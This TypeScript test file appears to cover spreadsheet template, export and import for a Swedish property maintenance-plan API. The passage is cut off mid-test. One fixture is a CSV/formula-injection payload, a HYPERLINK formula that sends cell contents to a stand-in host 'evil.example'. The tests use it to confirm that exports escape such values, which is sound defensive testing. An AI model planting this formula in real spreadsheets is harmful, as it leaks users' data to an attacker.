import ExcelJS from 'exceljs';
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importFields } from '../../../shared/schemas/spreadsheet.ts';
import { multipartBody } from '../../test-support/attachment-uploads.ts';
import { created, createPropertyWithPlan, expectAllNotFound, signUpTeam, snapshotPlanData, type Team } from '../../test-support/plan-data.ts';
import { createTestApp, type TestApp, type TestClient } from '../../test-support/test-app.ts';
import { claimingBomb, lyingBomb } from './zip-test-archives.ts';

let testApp: TestApp;
let team: Team;
let other: Team;
let own: Awaited<ReturnType<typeof createPropertyWithPlan>>;
let foreign: Awaited<ReturnType<typeof createPropertyWithPlan>>;

beforeAll(async () => {
  testApp = await createTestApp();
  team = await signUpTeam(testApp.app);
  other = await signUpTeam(testApp.app);
  own = await createPropertyWithPlan(team.editor.client, team.accountId);
  foreign = await createPropertyWithPlan(other.editor.client, other.accountId);
});
afterAll(async () => {
  await testApp.close();
});

const templateUrl = (planId: string) => `/api/plans/${planId}/template.xlsx`;
const exportUrl = (planId: string, query = '') => `/api/plans/${planId}/export.xlsx${query}`;
const importUrl = (planId: string, query = '') => `/api/plans/${planId}/import${query}`;

function upload(client: TestClient, planId: string, file: Buffer, fileName: string, query = '', language = 'en'): Promise<LightMyRequestResponse> {
  const { body, contentType } = multipartBody([{ fileName, content: file }]);
  return client.request('POST', importUrl(planId, query), body, { 'content-type': contentType, 'accept-language': language });
}

async function readWorkbook(response: LightMyRequestResponse): Promise<ExcelJS.Workbook> {
  expect(response.statusCode, response.body.slice(0, 300)).toBe(200);
  expect(response.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
  return workbook;
}

/** A new property (no buildings, no locations) of the team's account with a plan; returns the plan's id. */
async function createEmptyPlan(plan: Record<string, unknown> = {}): Promise<{ planId: string; propertyId: string }> {
  const organisation = created<{ id: string }>(
    await team.editor.client.post(`/api/accounts/${team.accountId}/organisations`, { name: `Org ${Math.random()}` }),
  );
  const property = created<{ id: string }>(await team.editor.client.post(`/api/organisations/${organisation.id}/properties`, { name: 'Tom fastighet' }));
  const created_ = created<{ id: string }>(
    await team.editor.client.post(`/api/properties/${property.id}/plans`, { name: 'Tom plan', startYear: 2026, ...plan }),
  );
  return { planId: created_.id, propertyId: property.id };
}

const csv = (lines: string[]) => Buffer.from(lines.join('\r\n'), 'utf8');

describe('template', () => {
  it('is an .xlsx with Swedish and English headers, the lists sheet and drop-down lists, for viewers too', async () => {
    const response = await team.viewer.client.get(templateUrl(own.planId));
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="Underh_llsplan 2026 - mall.xlsx"; filename*=UTF-8''Underh%C3%A5llsplan%202026%20-%20mall.xlsx`,
    );
    const workbook = await readWorkbook(response);
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['Åtgärder', 'Listor']);
    const sheet = workbook.getWorksheet('Åtgärder')!;
    expect(sheet.getRow(1).values).toEqual([
      undefined,
      'Åtgärd',
      'Kategori',
      'Byggnad',
      'Läge',
      'Mängd',
      'Enhet',
      'À-pris',
      'År',
      'Intervall',
      'Status',
      'Basår',
      'Investering',
      'Taggar',
      'Anteckning',
      'ID',
      'Biblioteks-ID',
    ]);
    expect(sheet.getRow(2).values).toEqual([
      undefined,
      'Action',
      'Category',
      'Building',
      'Location',
      'Quantity',
      'Unit',
      'Unit price',
      'Year',
      'Interval',
      'Status',
      'Base year',
      'Investment',
      'Tags',
      'Note',
      'ID',
      'Library ID',
    ]);
    expect(sheet.getCell('B3').dataValidation).toMatchObject({ type: 'list', formulae: ["'Listor'!$A$2:$A$17"], showErrorMessage: true });
    expect(sheet.getCell('J2002').dataValidation).toMatchObject({ type: 'list', formulae: ["'Listor'!$D$2:$D$6"] });
    expect(sheet.getCell('F3').dataValidation).toMatchObject({ type: 'list', formulae: ["'Listor'!$F$2:$F$7"] });
    expect(sheet.getCell('C3').dataValidation).toMatchObject({ type: 'list', formulae: ["'Listor'!$G$2:$G$2"] });
    const lists = workbook.getWorksheet('Listor')!;
    expect(lists.getColumn(1).values.slice(2, 5)).toEqual(['Mark', 'Stomme och grund', 'Fasad']);
    expect(lists.getColumn(4).values.slice(2)).toEqual(['Utkast', 'Planerad', 'Akut', 'Eftersatt', 'Genomförd']);
    expect(lists.getColumn(6).values.slice(2)).toEqual(['st', 'm', 'm2', 'm3', 'kg', 'tim']);
    expect(lists.getCell('G2').value).toBe('Hus A');
    expect(lists.getCell('H2').value).toBe('Tvättstuga');
  });
});

describe('export and import round trip', () => {
  const planSettings = {
    clientCostPercent: 10,
    vatPercent: 25,
    indexation: { enabled: true, annualRatePercent: 2, defaultBaseYear: 2026 },
    fund: { openingBalance: 100_000, currentProvisionPerYear: 150_000, provisionGrowthPercent: 2, interestRatePercent: 1, minimumBalance: 50_000 },
  };
  let source: { planId: string; propertyId: string };
  let buildingId: string;
  let locationId: string;
  const injected = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")';

  beforeAll(async () => {
    source = await createEmptyPlan(planSettings);
    buildingId = created<{ id: string }>(await team.editor.client.post(`/api/properties/${source.propertyId}/buildings`, { name: 'Hus Ö' })).id;
    locationId = created<{ id: string }>(await team.editor.client.post(`/api/properties/${source.propertyId}/locations`, { name: '@Tvättstuga' })).id;
    const actions = [
      { name: 'Målning fönster', category: 'fasad', buildingId, quantity: 40, unit: 'st', unitPrice: 2500, year: 2027, intervalYears: 8 },
      { name: injected, category: 'el', locationId, quantity: 0.125, unit: 'tim', unitPrice: 0.01, year: 2022, status: 'urgent', note: '-rad 1\nrad 2' },
      {
        name: 'Solceller',
        category: 'el',
        buildingId,
        locationId,
        quantity: 1,
        unit: 'st',
        unitPrice: 999_999_999.99,
        year: 2030,
        isInvestment: true,
        tags: ['P-7', 'Konto 1234', 'konto 4610, drift', 'a;b', '"citat"'],
        baseYear: 2024,
      },
      { name: 'OVK', category: 'myndighet', quantity: 3, unit: 'lgh', unitPrice: 1234.5, year: 2026, intervalYears: 6, status: 'done' },
      {
        name: 'Utkast tak',
        category: 'yttertak',
        quantity: 450.75,
        unit: 'm2',
        unitPrice: 640.5,
        year: 2040,
        status: 'draft',
        intervalYears: 30,
        baseYear: 2030,
      },
      { name: '+Eftersatt', category: 'avlopp', quantity: 12, unit: 'm', unitPrice: 3000, year: 2025, status: 'deferred', tags: ['@x'] },
    ];
    for (const action of actions) created(await team.editor.client.post(`/api/plans/${source.planId}/actions`, action));
  });

  it('exports every sheet with the VAT choice stated, and no cell is a formula', async () => {
    const response = await team.viewer.client.get(exportUrl(source.planId, '?vat=incl'));
    expect(response.headers['content-disposition']).toContain(`filename*=UTF-8''Tom%20plan%20-%20inkl-moms.xlsx`);
    const workbook = await readWorkbook(response);
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['Åtgärder', 'Åtgärder per år', 'Ekonomisk analys', 'Avsättningsanalys']);
    for (const sheet of workbook.worksheets) {
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type, `${sheet.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === 'string') expect(cell.value, `${sheet.name}!${cell.address}`).not.toMatch(/^[=+\-@\t\r]/);
        }),
      );
    }
    const actions = workbook.getWorksheet('Åtgärder')!;
    const injectedRow = actions.getRows(7, 6)!.find((row) => String(row.getCell(1).value).includes('HYPERLINK'))!;
    expect(injectedRow.getCell(1).value).toBe(`'${injected}`);
    expect(injectedRow.getCell(1).type).toBe(ExcelJS.ValueType.String);
    expect(injectedRow.getCell(4).value).toBe("'@Tvättstuga");
    expect(injectedRow.getCell(14).value).toBe("'-rad 1\nrad 2");
    for (const name of ['Åtgärder per år', 'Ekonomisk analys', 'Avsättningsanalys']) {
      expect(workbook.getWorksheet(name)!.getCell('A3').value).toBe(
        'Belopp i kr inklusive moms (25 %), exakta till öret (ingen avrundning), beräknade med Kvarters kostnadsmodell.',
      );
    }
    expect(actions.getCell('A3').value).toBe(
      'Belopp i kr À-pris exklusive moms, som de sparats, exakta till öret (ingen avrundning), beräknade med Kvarters kostnadsmodell.',
    );
  });

  it('states the figures of the API: analysis totals and fund', async () => {
    const workbook = await readWorkbook(await team.viewer.client.get(exportUrl(source.planId)));
    const analysis = (await team.viewer.client.get(`/api/plans/${source.planId}/analysis`)).json();
    const fund = (await team.viewer.client.get(`/api/plans/${source.planId}/fund`)).json();
    const sheet = workbook.getWorksheet('Ekonomisk analys')!;
    expect(sheet.getCell('B6').value).toBe(analysis.total);
    expect(sheet.getCell('B10').value).toBe(analysis.maintenanceDebt);
    const firstYearRow = sheet.getRow(15);
    expect(firstYearRow.getCell(1).value).toBe(2026);
    expect(firstYearRow.getCell(2).value).toBe(analysis.years[0].total);
    const fundSheet = workbook.getWorksheet('Avsättningsanalys')!;
    expect(fundSheet.getCell('B6').value).toBe(fund.firstShortfallYear ?? 'inget / none');
    expect(fundSheet.getCell('B7').value).toBe(fund.requiredProvisionPerYear);
    const last = fund.years.at(-1);
    const lastRow = fundSheet.getRow(12 + fund.years.length - 1);
    expect([lastRow.getCell(1).value, lastRow.getCell(2).value, lastRow.getCell(3).value, lastRow.getCell(4).value]).toEqual([
      last.year,
      last.cost,
      last.provision,
      last.balance,
    ]);
    const perYear = workbook.getWorksheet('Åtgärder per år')!;
    const sums = perYear.getRows(7, perYear.rowCount - 6)!.filter((row) => String(row.getCell(2).value).startsWith('Summa'));
    expect(sums.map((row) => [row.getCell(1).value, row.getCell(5).value])).toEqual(
      analysis.years.filter((year: { total: number }) => year.total > 0).map((year: { year: number; total: number }) => [year.year, year.total]),
    );
  });

  it('imports into an empty plan of another property: the same actions (buildings and locations created) and the same analysis', async () => {
    const exported = (await team.viewer.client.get(exportUrl(source.planId))).rawPayload;
    const target = await createEmptyPlan(planSettings);
    // The ids are the source plan's actions: in another plan they are cell errors, until the ID column is left unused.
    const withIds = (await upload(team.editor.client, target.planId, exported, 'plan.xlsx', '?dryRun=true')).json();
    expect(withIds).toMatchObject({ rowCount: 6, validRowCount: 0, errorCount: 6 });
    expect(withIds.errors.map((error: { row: number; field: string; code: string }) => [error.row, error.field, error.code])).toEqual(
      [7, 8, 9, 10, 11, 12].map((row) => [row, 'id', 'spreadsheet.id_unknown']),
    );
    const withoutIds = `?mapping=${encodeURIComponent(JSON.stringify(importFields.map((field) => (field === 'id' ? null : field))))}`;
    const dryRun = await upload(team.editor.client, target.planId, exported, 'plan.xlsx', `${withoutIds}&dryRun=true`);
    expect(dryRun.statusCode, dryRun.body).toBe(200);
    expect(dryRun.json()).toMatchObject({
      rowCount: 6,
      validRowCount: 6,
      errorCount: 0,
      errors: [],
      newBuildings: ['Hus Ö'],
      newLocations: ['@Tvättstuga'],
      toCreate: 6,
      toUpdate: 0,
      unchanged: 0,
    });
    const confirm = await upload(team.editor.client, target.planId, exported, 'plan.xlsx', withoutIds);
    expect(confirm.statusCode, confirm.body).toBe(200);
    expect(confirm.json()).toEqual({ created: 6, updated: 0, unchanged: 0, changeSetId: expect.any(String) });

    const comparable = async (planId: string, propertyId: string) => {
      const buildings = (await team.viewer.client.get(`/api/properties/${propertyId}/buildings`)).json() as { id: string; name: string }[];
      const locations = (await team.viewer.client.get(`/api/properties/${propertyId}/locations`)).json() as { id: string; name: string }[];
      const nameOf = (parts: { id: string; name: string }[], id: string | null) => parts.find((part) => part.id === id)?.name ?? null;
      const actions = (await team.viewer.client.get(`/api/plans/${planId}/actions`)).json() as Record<string, unknown>[];
      const analysis = (await team.viewer.client.get(`/api/plans/${planId}/analysis?vat=incl&asOfYear=2030`)).json();
      const byBuildingName = (byBuilding: Record<string, number>) =>
        Object.fromEntries(Object.entries(byBuilding).map(([id, cost]) => [nameOf(buildings, id) ?? id, cost]));
      for (const year of analysis.years) year.byBuilding = byBuildingName(year.byBuilding);
      analysis.byBuilding = byBuildingName(analysis.byBuilding);
      return {
        actions: actions.map(({ id: _id, accountId: _a, planId: _p, propertyId: _q, createdAt: _c, updatedAt: _u, buildingId, locationId, ...rest }) => ({
          ...rest,
          building: nameOf(buildings, buildingId as string | null),
          location: nameOf(locations, locationId as string | null),
        })),
        analysis,
        fund: (await team.viewer.client.get(`/api/plans/${planId}/fund?vat=incl`)).json(),
        buildings: buildings.map((part) => part.name),
        locations: locations.map((part) => part.name),
      };
    };
    const before = await comparable(source.planId, source.propertyId);
    const after = await comparable(target.planId, target.propertyId);
    expect(after.actions).toHaveLength(6);
    expect(after).toEqual(before);
    expect(after.actions.find((action) => (action as Record<string, unknown>).name === injected)).toMatchObject({
      location: '@Tvättstuga',
      note: '-rad 1\nrad 2',
      quantity: 0.125,
      unitPrice: 0.01,
      status: 'urgent',
    });
  });
});

describe('re-import by the ID column', () => {
  interface PlanAction {
    id: string;
    name: string;
    buildingId: string | null;
    unitPrice: number;
    year: number;
    tags: string[];
    note: string;
    status: string;
    isInvestment: boolean;
    updatedAt: string;
  }
  let target: { planId: string; propertyId: string };
  let buildingId: string;
  const ids: Record<string, string> = {};

  beforeAll(async () => {
    target = await createEmptyPlan();
    buildingId = created<{ id: string }>(await team.editor.client.post(`/api/properties/${target.propertyId}/buildings`, { name: 'Hus A' })).id;
    const actions = [
      { name: 'Fönsterbyte', category: 'fasad', buildingId, quantity: 12, unit: 'st', unitPrice: 1234.5, year: 2030, tags: ['P-1', 'P-2'] },
      { name: 'OVK', category: 'myndighet', quantity: 1, unit: 'st', unitPrice: 12000, year: 2027, intervalYears: 6 },
      { name: 'Takbyte', category: 'yttertak', buildingId, quantity: 450.75, unit: 'm2', unitPrice: 640.5, year: 2035, status: 'draft' },
      { name: 'Relining', category: 'avlopp', quantity: 120, unit: 'm', unitPrice: 3000, year: 2040, note: 'Offert', isInvestment: true, baseYear: 2026 },
    ];
    for (const action of actions) ids[action.name] = created<{ id: string }>(await team.editor.client.post(`/api/plans/${target.planId}/actions`, action)).id;
  });

  const planActions = async () => (await team.viewer.client.get(`/api/plans/${target.planId}/actions`)).json() as PlanAction[];
  /** The plan's history entries of one change set, oldest first. */
  const historyOf = async (changeSetId: string) => {
    const page = (await team.viewer.client.get(`/api/plans/${target.planId}/history?limit=200`)).json() as {
      items: { kind: string; actionId: string; changeSetId: string | null; user: { id: string } | null; changes: Record<string, unknown> }[];
    };
    return page.items.filter((item) => item.changeSetId === changeSetId).reverse();
  };
  const analysisOf = async () => (await team.viewer.client.get(`/api/plans/${target.planId}/analysis?vat=incl&asOfYear=2030`)).json();

  it('changes nothing when an unchanged export comes back', async () => {
    const exported = (await team.viewer.client.get(exportUrl(target.planId))).rawPayload;
    const dryRun = await upload(team.editor.client, target.planId, exported, 'plan.xlsx', '?dryRun=true');
    expect(dryRun.json()).toMatchObject({
      rowCount: 4,
      errorCount: 0,
      toCreate: 0,
      toUpdate: 0,
      unchanged: 4,
      updates: [],
      possibleDuplicates: [],
      newBuildings: [],
    });
    const before = await snapshotPlanData(testApp.database.db);
    const analysis = await analysisOf();
    const confirm = await upload(team.editor.client, target.planId, exported, 'plan.xlsx');
    expect(confirm.statusCode, confirm.body).toBe(200);
    expect(confirm.json()).toEqual({ created: 0, updated: 0, unchanged: 4, changeSetId: expect.any(String) });
    expect(await snapshotPlanData(testApp.database.db)).toEqual(before);
    expect(await analysisOf()).toEqual(analysis);
    expect((await historyOf(confirm.json().changeSetId)).length).toBe(0);
  });

  it('updates the rows whose cells changed, only in those fields, creates rows without an id and flags the look-alikes', async () => {
    const workbook = await readWorkbook(await team.viewer.client.get(exportUrl(target.planId)));
    const sheet = workbook.getWorksheet('Åtgärder')!;
    const rowOf = (name: string) => sheet.getRows(7, sheet.rowCount - 6)!.find((row) => row.getCell(1).value === name)!;
    const column = (field: (typeof importFields)[number]) => importFields.indexOf(field) + 1;
    rowOf('Fönsterbyte').getCell(column('unitPrice')).value = 1300;
    // Another spelling of the same building is no change.
    rowOf('Fönsterbyte').getCell(column('building')).value = ' hus a ';
    rowOf('Takbyte').getCell(column('year')).value = 2036;
    rowOf('Takbyte').getCell(column('tags')).value = 'Tak';
    sheet.addRow(['ovk', 'Myndighetskrav', null, null, 1, 'st', 12000, 2027]);
    sheet.addRow(['Hissbesiktning', 'Transport', 'Hus A', null, 1, 'st', 5000, 2028]);
    const edited = Buffer.from(await workbook.xlsx.writeBuffer());
    const before = await planActions();

    const dryRun = (await upload(team.editor.client, target.planId, edited, 'plan.xlsx', '?dryRun=true')).json();
    expect(dryRun).toMatchObject({ rowCount: 6, validRowCount: 6, errorCount: 0, toCreate: 2, toUpdate: 2, unchanged: 2 });
    expect(dryRun.updates).toEqual(
      [
        { row: rowOf('Fönsterbyte').number, actionId: ids.Fönsterbyte, name: 'Fönsterbyte', changes: { unitPrice: { from: 1234.5, to: 1300 } } },
        {
          row: rowOf('Takbyte').number,
          actionId: ids.Takbyte,
          name: 'Takbyte',
          changes: { year: { from: 2035, to: 2036 }, tags: { from: [], to: ['Tak'] } },
        },
      ].sort((a, b) => a.row - b.row),
    );
    expect(dryRun.possibleDuplicates).toEqual([{ row: 11, name: 'ovk', building: null, year: 2027, actionId: ids.OVK, actionName: 'OVK' }]);

    const confirm = await upload(team.editor.client, target.planId, edited, 'plan.xlsx');
    expect(confirm.json()).toEqual({ created: 2, updated: 2, unchanged: 2, changeSetId: expect.any(String) });
    const after = await planActions();
    expect(after).toHaveLength(6);
    const byId = (actions: PlanAction[], id: string) => actions.find((action) => action.id === id)!;
    expect(byId(after, ids.Fönsterbyte!)).toEqual({ ...byId(before, ids.Fönsterbyte!), unitPrice: 1300, updatedAt: expect.any(String) });
    expect(byId(after, ids.Takbyte!)).toEqual({ ...byId(before, ids.Takbyte!), year: 2036, tags: ['Tak'], updatedAt: expect.any(String) });
    expect(byId(after, ids.Fönsterbyte!).updatedAt).not.toBe(byId(before, ids.Fönsterbyte!).updatedAt);
    for (const name of ['OVK', 'Relining']) expect(byId(after, ids[name]!)).toEqual(byId(before, ids[name]!));
    expect(after.filter((action) => !Object.values(ids).includes(action.id)).map((action) => [action.name, action.buildingId])).toEqual([
      ['ovk', null],
      ['Hissbesiktning', buildingId],
    ]);

    // One change set, recorded as the editor's: two actions created, two updated in the changed fields only.
    const { changeSetId } = confirm.json();
    const history = await historyOf(changeSetId);
    expect(history.map((entry) => [entry.kind, entry.user?.id])).toEqual(
      expect.arrayContaining([
        ['created', team.editor.userId],
        ['created', team.editor.userId],
        ['updated', team.editor.userId],
        ['updated', team.editor.userId],
      ]),
    );
    expect(history).toHaveLength(4);
    expect(Object.fromEntries(history.filter((entry) => entry.kind === 'updated').map((entry) => [entry.actionId, entry.changes]))).toEqual({
      [ids.Fönsterbyte!]: { unitPrice: { from: 1234.5, to: 1300 } },
      [ids.Takbyte!]: { year: { from: 2035, to: 2036 }, tags: { from: [], to: ['Tak'] } },
    });

    // The import can be undone as one.
    const undo = await team.editor.client.post(`/api/change-sets/${changeSetId}/undo`, {});
    expect(undo.statusCode, undo.body).toBe(200);
    expect((await planActions()).map(({ updatedAt: _u, ...action }) => action)).toEqual(before.map(({ updatedAt: _u, ...action }) => action));
  });

  it('leaves the fields of missing columns alone, and reads a blank cell as the empty value', async () => {
    const before = await planActions();
    const file = csv(['ID;Åtgärd;Kategori;Mängd;Enhet;À-pris;År;Anteckning', `${ids.Relining!.toUpperCase()};Relining av stammar;avlopp;120;m;3000;2040;`]);
    const dryRun = (await upload(team.editor.client, target.planId, file, 'x.csv', '?dryRun=true')).json();
    expect(dryRun).toMatchObject({ toCreate: 0, toUpdate: 1, unchanged: 0 });
    expect(dryRun.updates).toEqual([
      {
        row: 2,
        actionId: ids.Relining,
        name: 'Relining',
        changes: { name: { from: 'Relining', to: 'Relining av stammar' }, note: { from: 'Offert', to: '' } },
      },
    ]);
    expect((await upload(team.editor.client, target.planId, file, 'x.csv')).json()).toMatchObject({ created: 0, updated: 1, unchanged: 0 });
    const relining = (await planActions()).find((action) => action.id === ids.Relining)!;
    expect(relining).toEqual({
      ...before.find((action) => action.id === ids.Relining),
      name: 'Relining av stammar',
      note: '',
      updatedAt: expect.any(String),
    });
    expect(relining).toMatchObject({ isInvestment: true, baseYear: 2026, status: 'planned' });
  });

  it('refuses ids that are not actions of this plan, and an id used twice, at their cells', async () => {
    const otherPlan = await createEmptyPlan();
    const otherAction = created<{ id: string }>(
      await team.editor.client.post(`/api/plans/${otherPlan.planId}/actions`, {
        name: 'X',
        category: 'fasad',
        quantity: 1,
        unit: 'st',
        unitPrice: 1,
        year: 2030,
      }),
    );
    const foreignAction = created<{ id: string }>(
      await other.editor.client.post(`/api/plans/${foreign.planId}/actions`, {
        name: 'Y',
        category: 'fasad',
        quantity: 1,
        unit: 'st',
        unitPrice: 1,
        year: 2030,
      }),
    );
    const file = csv([
      'Åtgärd;Kategori;Mängd;Enhet;À-pris;År;ID',
      `A;fasad;1;st;1;2030;${otherAction.id}`,
      `B;fasad;1;st;1;2030;${foreignAction.id}`,
      'C;fasad;1;st;1;2030;00000000-0000-4000-8000-000000000000',
      'D;fasad;1;st;1;2030;12',
      `E;fasad;1;st;1;2030;${ids.OVK}`,
      `F;fasad;1;st;1;2030;${ids.OVK}`,
    ]);
    const dryRun = (await upload(team.editor.client, target.planId, file, 'x.csv', '?dryRun=true', 'sv')).json();
    expect(dryRun).toMatchObject({ rowCount: 6, validRowCount: 1, errorCount: 5, toCreate: 0, toUpdate: 1, unchanged: 0 });
    expect(dryRun.errors.map((error: { row: number; column: string; code: string }) => [error.row, error.column, error.code])).toEqual([
      [2, 'ID', 'spreadsheet.id_unknown'],
      [3, 'ID', 'spreadsheet.id_unknown'],
      [4, 'ID', 'spreadsheet.id_unknown'],
      [5, 'ID', 'spreadsheet.id_unknown'],
      [7, 'ID', 'spreadsheet.id_twice'],
    ]);
    const before = await snapshotPlanData(testApp.database.db);
    const confirm = await upload(team.editor.client, target.planId, file, 'x.csv');
    expect(confirm.statusCode).toBe(400);
    expect(confirm.json().error.fieldCodes).toEqual({
      'rows.2.id': 'spreadsheet.id_unknown',
      'rows.3.id': 'spreadsheet.id_unknown',
      'rows.4.id': 'spreadsheet.id_unknown',
      'rows.5.id': 'spreadsheet.id_unknown',
      'rows.7.id': 'spreadsheet.id_twice',
    });
    expect(await snapshotPlanData(testApp.database.db)).toEqual(before);
  });
});

describe('import', () => {
  it('reads a Windows-1252 CSV with semicolons and Swedish numbers, creating missing buildings once', async () => {
    const target = await createEmptyPlan();
    const text = [
      'Åtgärd;Kategori;Byggnad;Läge;Mängd;Enhet;Styckpris;År;Intervall;Status;Basår;Investering;Märkning;Anteckning',
      'Byte av värmeväxlare;Värme och kyla;Hus Ä;Källare;1;st;"1 234,50";2031;25;Planerad;;nej;"P-1, P-2";Offert från Värmeab',
      'Relining;drainage and sewage;hus ä;;"1 200,5";m;"2 500";2035;;akut;2026;ja;;',
      'Fasadtvätt;fasad;Hus B;;350;m2;45;2028;10;;;;;',
    ].join('\r\n');
    const file = Buffer.from(text, 'latin1');
    expect(file.includes(Buffer.from('Åtgärd', 'utf8'))).toBe(false);
    const response = await upload(team.editor.client, target.planId, file, 'plan.csv');
    expect(response.statusCode, response.body).toBe(200);
    expect(response.json()).toEqual({ created: 3, updated: 0, unchanged: 0, changeSetId: expect.any(String) });
    const buildings = (await team.viewer.client.get(`/api/properties/${target.propertyId}/buildings`)).json() as { id: string; name: string }[];
    // Listed by name: B before Ä.
    expect(buildings.map((building) => building.name)).toEqual(['Hus B', 'Hus Ä']);
    const locations = (await team.viewer.client.get(`/api/properties/${target.propertyId}/locations`)).json() as { name: string }[];
    expect(locations.map((location) => location.name)).toEqual(['Källare']);
    const actions = (await team.viewer.client.get(`/api/plans/${target.planId}/actions`)).json() as Record<string, unknown>[];
    const byName = Object.fromEntries(actions.map((action) => [action.name, action]));
    expect(byName['Byte av värmeväxlare']).toMatchObject({
      category: 'varme-kyla',
      quantity: 1,
      unit: 'st',
      unitPrice: 1234.5,
      year: 2031,
      intervalYears: 25,
      status: 'planned',
      baseYear: null,
      isInvestment: false,
      tags: ['P-1', 'P-2'],
      note: 'Offert från Värmeab',
      buildingId: buildings[1]!.id,
    });
    expect(byName.Relining).toMatchObject({
      category: 'avlopp',
      quantity: 1200.5,
      unitPrice: 2500,
      year: 2035,
      intervalYears: null,
      status: 'urgent',
      baseYear: 2026,
      isInvestment: true,
      tags: [],
      note: '',
      buildingId: buildings[1]!.id,
      locationId: null,
    });
    expect(byName.Fasadtvätt).toMatchObject({
      category: 'fasad',
      quantity: 350,
      unitPrice: 45,
      intervalYears: 10,
      status: 'planned',
      buildingId: buildings[0]!.id,
    });
  });

  it('reads a UTF-8 CSV with a BOM and commas, English headers', async () => {
    const target = await createEmptyPlan();
    const file = Buffer.concat([
      Buffer.from([0xef, 0xbb, 0xbf]),
      csv(['Action,Category,Quantity,Unit,Unit price,Year,Status', 'Lift service,Lifts,2,st,"12,000.50",2027,Planned']),
    ]);
    const response = await upload(team.editor.client, target.planId, file, 'plan.csv');
    expect(response.json()).toEqual({ created: 1, updated: 0, unchanged: 0, changeSetId: expect.any(String) });
    const [action] = (await team.viewer.client.get(`/api/plans/${target.planId}/actions`)).json();
    expect(action).toMatchObject({ name: 'Lift service', category: 'transport', quantity: 2, unitPrice: 12000.5, year: 2027, status: 'planned' });
  });

  it('reports every error of a file at once, per row and column, in the request language, and writes nothing', async () => {
    const target = await createEmptyPlan();
    const file = csv([
      'Åtgärd;Kategori;Byggnad;Mängd;Enhet;À-pris;År;Intervall;Status;Investering;Märkning',
      ';Tak;;1;st;100;2030;;;;',
      'Byte av tak;yttertak;;tolv;st;1,234;1800;0;Klar;kanske;',
      `Målning;fasad;${'H'.repeat(121)};-1;${'u'.repeat(17)};;2030;;;;${'t'.repeat(41)}`,
      'OK-rad;fasad;;1;st;10;2030;;;;',
    ]);
    const before = await snapshotPlanData(testApp.database.db);
    const dryRun = await upload(team.editor.client, target.planId, file, 'fel.csv', '?dryRun=true', 'sv');
    expect(dryRun.statusCode, dryRun.body).toBe(200);
    const body = dryRun.json();
    expect(body).toMatchObject({ rowCount: 4, validRowCount: 1, errorCount: 13, newBuildings: [], newLocations: [] });
    expect(body.errors.map((error: { row: number; column: string; code: string }) => [error.row, error.column, error.code])).toEqual([
      [2, 'Åtgärd', 'field.required'],
      [2, 'Kategori', 'category.invalid'],
      [3, 'Mängd', 'number.invalid'],
      [3, 'À-pris', 'number.too_many_decimals'],
      [3, 'År', 'year.out_of_range'],
      [3, 'Intervall', 'interval.out_of_range'],
      [3, 'Status', 'status.invalid'],
      [3, 'Investering', 'spreadsheet.yes_no'],
      [4, 'Byggnad', 'name.too_long'],
      [4, 'Mängd', 'quantity.out_of_range'],
      [4, 'Enhet', 'unit.too_long'],
      [4, 'À-pris', 'field.required'],
      [4, 'Märkning', 'tag.too_long'],
    ]);
    expect(body.errors[1]).toEqual({
      row: 2,
      columnIndex: 1,
      column: 'Kategori',
      field: 'category',
      code: 'category.invalid',
      message: 'Välj en kategori i listan.',
    });

    const confirm = await upload(team.editor.client, target.planId, file, 'fel.csv', '', 'en');
    expect(confirm.statusCode).toBe(400);
    const error = confirm.json().error;
    expect(error.code).toBe('validation');
    expect(Object.keys(error.fields)).toHaveLength(13);
    expect(error.fields['rows.2.category']).toBe('Choose a category from the list.');
    expect(error.fieldCodes['rows.3.isInvestment']).toBe('spreadsheet.yes_no');
    expect(await snapshotPlanData(testApp.database.db)).toEqual(before);
  });

  it('maps columns automatically, and by a manual mapping that overrides it', async () => {
    const target = await createEmptyPlan();
    const file = csv(['Vad;Typ;Hur mycket;Per;Kostar;När', 'Byte av tak;yttertak;1;st;100;2030']);
    const automatic = (await upload(team.editor.client, target.planId, file, 'x.csv', '?dryRun=true')).json();
    expect(automatic.columns).toEqual([
      { index: 0, header: 'Vad', field: null },
      { index: 1, header: 'Typ', field: 'category' },
      { index: 2, header: 'Hur mycket', field: null },
      { index: 3, header: 'Per', field: null },
      { index: 4, header: 'Kostar', field: null },
      { index: 5, header: 'När', field: null },
    ]);
    expect(automatic.errors.map((error: { field: string; code: string; columnIndex: null }) => [error.field, error.code, error.columnIndex])).toEqual([
      ['name', 'spreadsheet.column_missing', null],
      ['quantity', 'spreadsheet.column_missing', null],
      ['unit', 'spreadsheet.column_missing', null],
      ['unitPrice', 'spreadsheet.column_missing', null],
      ['year', 'spreadsheet.column_missing', null],
    ]);
    const mapping = encodeURIComponent(JSON.stringify(['name', 'category', 'quantity', 'unit', 'unitPrice', 'year']));
    const twice = encodeURIComponent(JSON.stringify(['name', 'name', 'quantity', 'unit', 'unitPrice', 'year']));
    const twiceErrors = (await upload(team.editor.client, target.planId, file, 'x.csv', `?dryRun=true&mapping=${twice}`)).json().errors;
    expect(twiceErrors.map((error: { field: string; code: string; columnIndex: number | null }) => [error.field, error.code, error.columnIndex])).toEqual([
      ['category', 'spreadsheet.column_missing', null],
      ['name', 'spreadsheet.column_twice', 1],
    ]);
    const invalid = await upload(team.editor.client, target.planId, file, 'x.csv', `?mapping=${encodeURIComponent('["nope"]')}`);
    expect(invalid.statusCode).toBe(400);
    expect(invalid.json().error.fieldCodes).toEqual({ 'mapping.0': 'spreadsheet.mapping_invalid' });
    expect((await upload(team.editor.client, target.planId, file, 'x.csv', `?mapping=${encodeURIComponent('{')}`)).json().error.fieldCodes).toEqual({
      mapping: 'spreadsheet.mapping_invalid',
    });
    expect((await upload(team.editor.client, target.planId, file, 'x.csv', `?mapping=${mapping}`)).json()).toEqual({
      created: 1,
      updated: 0,
      unchanged: 0,
      changeSetId: expect.any(String),
    });
  });

  it('a dry run writes nothing', async () => {
    const before = await snapshotPlanData(testApp.database.db);
